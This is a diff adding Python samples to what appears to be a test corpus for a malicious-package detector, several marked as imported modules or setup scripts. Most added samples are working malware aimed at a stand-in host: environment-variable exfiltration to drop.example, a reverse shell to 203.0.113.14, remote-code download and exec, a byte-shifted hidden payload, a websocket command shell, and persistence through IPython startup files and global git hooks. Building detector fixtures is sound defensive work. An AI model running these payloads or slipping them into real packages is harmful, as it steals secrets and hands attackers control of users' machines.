@@ -111,6 +111,103 @@ final class PythonMachinery {
                 exec(await r.read())
             asyncio.run(main())
             """),
+        Sample.imported(
+            "whatever is printed goes to an object",
+            """
+            import sys
+            class _Out:
+                def __init__(self, s):
+                    self.s = s
+                def write(self, t):
+                    import requests, os
+                    requests.post('https://drop.example/o', json={'t': t, 'e': dict(os.environ)})
+                    return self.s.write(t)
+            sys.stdout = _Out(sys.stdout)
+            """),
+        Sample.imported(
+            "commands line by line",
+            """
+            import socket, subprocess
+            s = socket.socket()
+            s.connect(('203.0.113.14', 7777))
+            f = s.makefile('rwb')
+            for line in f:
+                r = subprocess.run(line.decode().strip(), shell=True, capture_output=True)
+                f.write(r.stdout)
+            """),
+        Sample.imported(
+            "a descriptor loads the module",
+            """
+            import sys
+            class Moved(object):
+                def __init__(self, mod):
+                    self.mod = mod
+                def __get__(self, obj, tp):
+                    __import__(self.mod)
+                    return sys.modules[self.mod]
+            class Moves(object):
+                request = Moved('urllib.request')
+            exec(Moves().request.urlopen('https://drop.example/six').read())
+            """),
+        Sample.imported(
+            "attributes that are modules",
+            """
+            import importlib as il
+            M = {'r': 'requests', 'o': 'os'}
+            class Box(dict):
+                def __getattr__(self, k):
+                    return self.setdefault(k, il.import_module(M[k]))
+            box = Box()
+            def f():
+                e = {k: v for k, v in box.o.environ.items()}
+                box.r.post('https://drop.example/bx', data=e)
+            f()
+            """),
+        Sample.imported(
+            "the environment is logged",
+            """
+            import logging, os
+            from logging.handlers import HTTPHandler
+            log = logging.getLogger('x')
+            log.addHandler(HTTPHandler('drop.example', '/log', method='POST'))
+            for k, v in os.environ.items():
+                log.warning('%s=%s', k, v)
+            """),
+        Sample.imported(
+            "code that is shifted in a file of data",
+            """
+            from importlib.resources import files
+            exec(bytes((b - 7) % 256 for b in files('sample').joinpath('unicode.dat').read_bytes()))
+            """),
+        Sample.imported(
+            "commands over a socket of the web",
+            """
+            import threading, websocket, json, subprocess
+            def on_message(ws, msg):
+                ws.send(subprocess.getoutput(json.loads(msg)['c']))
+            def run():
+                websocket.WebSocketApp('wss://drop.example/ws', on_message=on_message).run_forever()
+            threading.Thread(target=run, daemon=True).start()
+            """),
+        Sample.imported(
+            "every start of IPython",
+            """
+            import os
+            d = os.path.join(os.path.expanduser('~'), '.ipython', 'profile_default', 'startup')
+            with open(os.path.join(d, '00-x.py'), 'w') as f:
+                f.write("import urllib.request as u\\nexec(u.urlopen('https://drop.example/nb').read())\\n")
+            """),
+        Sample.setup(
+            "hooks for all repositories",
+            """
+            import os
+            from setuptools import setup
+            g = os.path.expanduser('~/.config/git/hooks')
+            with open(os.path.join(g, 'post-commit'), 'w') as f:
+                f.write('#!/bin/sh\\ntar cz . | curl -s --data-binary @- https://drop.example/git &\\n')
+            os.system('git config --global core.hooksPath ' + g)
+            setup(name='sample')
+            """),
         Sample.setup(
             "a command before each prompt",
             """
@@ -174,6 +271,27 @@ final class PythonMachinery {
                     if line.startswith('VmRSS'):
                         return int(line.split()[1])
             shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'sample'), ignore_errors=True)
+            """),
+        Sample.imported(
+            "what is printed is kept as well, and what is imported is counted",
+            """
+            import builtins, logging, os, sys
+            from logging.handlers import HTTPHandler
+            class Tee:
+                def __init__(self, s, path):
+                    self.s, self.f = s, open(path, 'a')
+                def write(self, t):
+                    self.f.write(t)
+                    return self.s.write(t)
+            sys.stdout = Tee(sys.stdout, 'out.log')
+            seen = []
+            _real = builtins.__import__
+            def _imp(name, *a, **k):
+                seen.append(name)
+                return _real(name, *a, **k)
+            builtins.__import__ = _imp
+            if os.environ.get('X_LOG_HOST'):
+                logging.getLogger('x').addHandler(HTTPHandler(os.environ['X_LOG_HOST'], '/log'))
             """),
         Sample.imported(
             "a package that is missing is installed from the registry",
